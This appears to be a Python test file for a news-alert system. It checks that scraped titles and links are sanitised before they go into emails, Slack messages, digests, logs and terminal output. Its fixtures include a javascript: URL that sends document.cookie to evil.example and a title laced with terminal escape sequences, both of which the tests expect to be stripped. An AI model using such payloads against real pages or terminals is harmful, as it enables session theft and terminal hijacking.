"""Scraped text on its way out: a `javascript:` link never becomes clickable in an alert
or a digest, and control characters (a terminal escape sequence in a page title) never
reach a mail header, a log line or the terminal."""

import logging

from click.testing import CliRunner

from alerts.delivery import deliver_due
from alerts.digest import Digest
from alerts.digests import preview
from alerts.engine import evaluate
from alerts.rules.news import NewsMatch
from jobs.cli import cli
from jobs.logs import setup
from storage import NewsItem, SourceEntry
from tests.alerts.test_delivery import T0, email_channel

ESCAPES = "\x1b\x07\x9b\u202e"  # ESC, bell, C1 CSI, right-to-left override
TITLE = "Asylum rule\x1b[2J\x1b]0;owned\x07\x9b31m\u202e changed"  # clear screen, set title...
SHOWN = "Asylum rule[2J]0;owned31m changed"  # what is left: visible, inert
HOSTILE_URL = "javascript:fetch('https://evil.example/'+document.cookie)"


def hostile_news(store) -> NewsMatch:
    store.catalog.sync_sources([SourceEntry("dhs", "feed", "https://www.dhs.gov/", "DHS news")])
    rule = NewsMatch(name="asylum", keywords=("asylum",), channels=("newsroom",))
    evaluate(store, {"asylum": rule})
    store.news.add(
        [
            NewsItem("dhs", "g1", TITLE, url=HOSTILE_URL, summary="asylum"),
            NewsItem("dhs", "g2", "Asylum figures", url="https://www.dhs.gov/n/2"),
        ],
        snapshot_id=None,
    )
    return rule


def test_alert_email_offers_no_javascript_link_and_a_clean_subject(store, smtp):
    rule = hostile_news(store)
    assert len(evaluate(store, {"asylum": rule})) == 2
    assert deliver_due(store, {"newsroom": email_channel(smtp)}, now=T0).sent == 2
    [(_, mail)] = smtp.mailbox.received  # raised together: one grouped message
    html = mail.get_body(("html",)).get_content()
    text = mail.get_body(("plain",)).get_content()
    assert "Asylum rule" in text and "Asylum figures" in text  # both alerts, in full
    assert not any(char in mail["Subject"] for char in ESCAPES)
    assert "javascript:" not in html and "javascript:" not in text
    assert 'href="https://www.dhs.gov/n/2"' in html


def test_digest_offers_no_javascript_link(store):
    hostile_news(store)
    page = preview(store, Digest(name="weekly", channels=("newsroom",)), {})
    assert "Asylum figures" in page and "changed" in page
    assert "javascript:" not in page
    assert 'href="https://www.dhs.gov/n/2"' in page


def test_no_control_character_reaches_the_terminal_or_the_log(tmp_path, capsys):
    config = tmp_path / "crossings.toml"
    config.write_text('[settings]\ndatabase = "crossings.db"\n')
    from storage import Store

    with Store(tmp_path / "crossings.db") as store:
        hostile_news(store)
    for command in (["news"], ["news", "--nl"], ["news", "--csv"]):
        result = CliRunner().invoke(cli, ["--config", str(config), *command])
        assert result.exit_code == 0, result.output
        assert SHOWN in result.output
        assert not any(char in result.output for char in ESCAPES), command

    setup("text")
    logging.getLogger("crossings.test").warning("alert notice: %s", TITLE)
    line = capsys.readouterr().err
    assert f"alert notice: {SHOWN}" in line
    assert not any(char in line for char in ESCAPES)


def test_no_control_character_reaches_an_email_body_a_slack_text_or_a_digest(store, smtp, receiver):
    """Issue 28: headers, logs and the terminal were clean, but bodies were not."""
    from tests.alerts.test_delivery import hook_channel

    hostile_news(store)
    rule = NewsMatch(name="asylum", keywords=("asylum",), channels=("newsroom", "slack"))
    assert len(evaluate(store, {"asylum": rule})) == 2
    channels = {"newsroom": email_channel(smtp), "slack": hook_channel(receiver, format="slack")}
    assert deliver_due(store, channels, now=T0).sent == 4
    [(_, mail)] = smtp.mailbox.received
    [request] = receiver.requests
    bodies = {
        "email text": mail.get_body(("plain",)).get_content(),
        "email html": mail.get_body(("html",)).get_content(),
        "slack text": request["json"]["text"],
        "digest": preview(store, Digest(name="weekly", channels=("newsroom",)), {}),
    }
    for where, body in bodies.items():
        assert "changed" in body, where
        assert not any(char in body for char in ESCAPES), where
